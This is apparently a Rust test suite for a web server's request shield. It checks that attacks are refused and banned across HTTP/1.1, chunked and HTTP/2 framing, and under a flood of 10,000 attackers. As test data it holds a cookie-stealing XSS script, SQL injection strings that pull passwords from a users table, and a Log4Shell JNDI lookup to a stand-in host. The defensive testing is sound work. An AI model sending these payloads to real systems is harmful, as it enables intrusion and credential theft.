//! The shield cannot be walked around: a body is judged whatever the protocol and framing,
//! never half-judged, attacks anywhere in a request lead to a ban, and no ban is lost when
//! thousands of attackers come at once.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use reqwest::StatusCode;
use testkit::TestServer;

use crate::forms::{filled_in, server_with_relay, valid};
use crate::raw;

fn encoded(fields: &[(&str, &str)]) -> String {
    form_urlencoded::Serializer::new(String::new())
        .extend_pairs(fields)
        .finish()
}

/// Posts `body` to `/contact` over HTTP/2 (prior knowledge) from `from`, with or without a
/// `content-length`.
async fn post_h2(s: &TestServer, from: &str, body: String, with_length: bool) -> u16 {
    let (mut send, _conn) = raw::h2c(from, s.http_addr).await;
    let req = hyper::Request::post("http://localhost/contact")
        .header("content-type", "application/x-www-form-urlencoded");
    let res = if with_length {
        send.send_request(req.body(raw::full(body)).unwrap()).await
    } else {
        let (mut tx, stream) = raw::streamed();
        let feed = tokio::spawn(async move {
            // In two pieces, so it really is a stream.
            let (a, b) = body.split_at(body.len() / 2);
            let _ = tx.send_data(Bytes::from(a.to_string())).await;
            let _ = tx.send_data(Bytes::from(b.to_string())).await;
        });
        let res = send.send_request(req.body(stream).unwrap()).await;
        feed.await.unwrap();
        res
    };
    res.unwrap().status().as_u16()
}

/// Posts `body` to `/contact` over HTTP/1.1 in chunks (no `content-length`) from `from`.
async fn post_chunked(s: &TestServer, from: &str, body: &str) -> u16 {
    let (a, b) = body.split_at(body.len() / 2);
    let request = format!(
        "POST /contact HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{a}\r\n{:x}\r\n{b}\r\n0\r\n\r\n",
        a.len(),
        b.len()
    );
    raw::h1(from, s.http_addr, request.as_bytes()).await.0
}

async fn post_h1(s: &TestServer, from: &str, body: String) -> u16 {
    let client = reqwest::Client::builder()
        .local_address(from.parse::<std::net::IpAddr>().ok())
        .no_proxy()
        .build()
        .unwrap();
    client
        .post(format!("{}/contact", s.http_url))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

async fn stored(s: &TestServer) -> usize {
    let store = s.open_store().await;
    store.editor.submissions(None, 100).await.unwrap().len()
}

#[tokio::test]
async fn an_attacking_post_is_refused_over_http1_and_http2_alike() {
    let s = server_with_relay(None).await;
    let token = filled_in(&s).await;
    let mut attack = valid(&token, "hello");
    attack[2].1 = "<script>alert(document.cookie)</script>";
    let body = encoded(&attack);
    // Each from its own address, so no ban gets in the way of the verdict.
    assert_eq!(
        post_h1(&s, "127.0.10.1", body.clone()).await,
        403,
        "HTTP/1.1"
    );
    assert_eq!(
        post_chunked(&s, "127.0.10.2", &body).await,
        403,
        "HTTP/1.1 chunked"
    );
    assert_eq!(
        post_h2(&s, "127.0.10.3", body.clone(), true).await,
        403,
        "HTTP/2 with length"
    );
    assert_eq!(
        post_h2(&s, "127.0.10.4", body.clone(), false).await,
        403,
        "HTTP/2 without length"
    );
    assert_eq!(stored(&s).await, 0, "nothing stored");
    // The honest message goes through over HTTP/2 without a length: bodies reach the form.
    let honest = encoded(&valid(&token, "Mag ik meehelpen op de werkdag?"));
    assert_eq!(post_h2(&s, "127.0.10.5", honest, false).await, 200);
    assert_eq!(stored(&s).await, 1);
}

#[tokio::test]
async fn a_public_body_is_judged_whole_or_refused() {
    let s = server_with_relay(None).await;
    let token = filled_in(&s).await;
    // An attack behind 70 KB of padding (beyond the 64 KiB that is inspected): refused,
    // however it is framed.
    let padding = "a".repeat(70_000);
    let mut fields = valid(&token, "hello");
    fields.push(("padding", &padding));
    fields.push(("_token", "x' UNION SELECT password FROM users--"));
    let body = encoded(&fields);
    assert_eq!(post_h1(&s, "127.0.11.1", body.clone()).await, 413);
    assert_eq!(post_chunked(&s, "127.0.11.2", &body).await, 413);
    assert_eq!(post_h2(&s, "127.0.11.3", body.clone(), false).await, 413);
    assert_eq!(post_h2(&s, "127.0.11.4", body, true).await, 413);
    // A second token (or honeypot) is refused by the form, not taken as the first.
    let mut twice = valid(&token, "hello");
    twice.push(("_token", "forged"));
    assert_eq!(post_h1(&s, "127.0.11.5", encoded(&twice)).await, 422);
    assert_eq!(stored(&s).await, 0, "nothing stored");
}

#[tokio::test]
async fn attacks_anywhere_in_a_request_lead_to_a_ban() {
    let s = TestServer::start().await;
    // One client, one kept-alive connection: a banned client may keep one connection (to
    // read its refusal) and no more.
    let client = reqwest::Client::builder()
        .local_address("127.0.12.1".parse::<std::net::IpAddr>().ok())
        .no_proxy()
        .build()
        .unwrap();
    let get = |path: &'static str, header: Option<(&'static str, &'static str)>| {
        let mut req = client.get(format!("{}{path}", s.http_url));
        if let Some((n, v)) = header {
            req = req.header(n, v);
        }
        req.send()
    };
    // One path, the attack in a header, a cookie, and under /.well-known/: each is refused
    // and each counts (the default threshold is three).
    let header = get("/", Some(("user-agent", "${jndi:ldap://198.51.100.7/a}")));
    assert_eq!(header.await.unwrap().status(), StatusCode::FORBIDDEN);
    let cookie = get("/", Some(("cookie", "id=1' OR '1'='1' -- ")));
    assert_eq!(cookie.await.unwrap().status(), StatusCode::FORBIDDEN);
    let known = get("/.well-known/x?q=<script>alert(1)</script>", None);
    assert_eq!(known.await.unwrap().status(), StatusCode::FORBIDDEN);
    let clean = get("/", None).await.unwrap();
    assert_eq!(clean.status(), StatusCode::FORBIDDEN, "banned after three");
    assert!(clean.text().await.unwrap().contains("Access denied"));
    // Someone else is served.
    assert_eq!(s.get("/").await.status(), StatusCode::OK);
}

#[tokio::test]
async fn ten_thousand_attackers_at_once_are_all_banned_and_stay_banned() {
    let dir = Arc::new(tempfile::tempdir().unwrap());
    let mut config = testkit::test_config(dir.path());
    config.shield.ban_attack_threshold = 1;
    let s = TestServer::start_in(dir, config).await;
    let addr = s.http_addr;
    let attacker = |i: u32| format!("127.1.{}.{}", i / 250, i % 250 + 1);
    const N: u32 = 10_000;
    let attack = b"GET /?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
    let clean = b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
    // Two hundred at a time, every one from its own address.
    let sem = Arc::new(tokio::sync::Semaphore::new(200));
    let mut tasks = Vec::new();
    for i in 0..N {
        let permit = sem.clone().acquire_owned().await.unwrap();
        let from = attacker(i);
        tasks.push(tokio::spawn(async move {
            let status = raw::h1(&from, addr, attack).await.0;
            drop(permit);
            status
        }));
    }
    for t in tasks {
        assert_eq!(t.await.unwrap(), 403);
    }
    // Every ban reaches the database: none dropped under the flood.
    let store = s.open_store().await;
    let mut stored = 0;
    for _ in 0..120 {
        stored = store
            .recorder
            .active_bans(store::now())
            .await
            .unwrap()
            .len();
        if stored == N as usize {
            break;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    assert_eq!(stored, N as usize, "every ban is stored");
    // Every blocked attack is in the security log too: one line each, or coalesced into
    // "N while the event queue was full" lines when the queue overflowed.
    let mut logged = 0;
    for _ in 0..240 {
        logged = store
            .editor
            .security_events(&["waf_block"], 0, 100_000)
            .await
            .unwrap()
            .iter()
            .map(
                |e| match e.detail.split_once(" while the event queue was full") {
                    Some((n, _)) => n.parse::<u64>().unwrap(),
                    None => 1,
                },
            )
            .sum::<u64>();
        if logged == u64::from(N) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    assert_eq!(logged, u64::from(N), "every blocked attack is recorded");
    // Several syncs later (every second in tests) every attacker is still refused; a sample of
    // a thousand, spread over the range, is asked.
    tokio::time::sleep(Duration::from_secs(3)).await;
    for i in (0..N).step_by(10) {
        let (status, _) = raw::h1(&attacker(i), addr, clean).await;
        assert_eq!(status, 403, "attacker {} is still banned", attacker(i));
    }
    assert_eq!(raw::h1("127.0.12.9", addr, clean).await.0, 200);
}
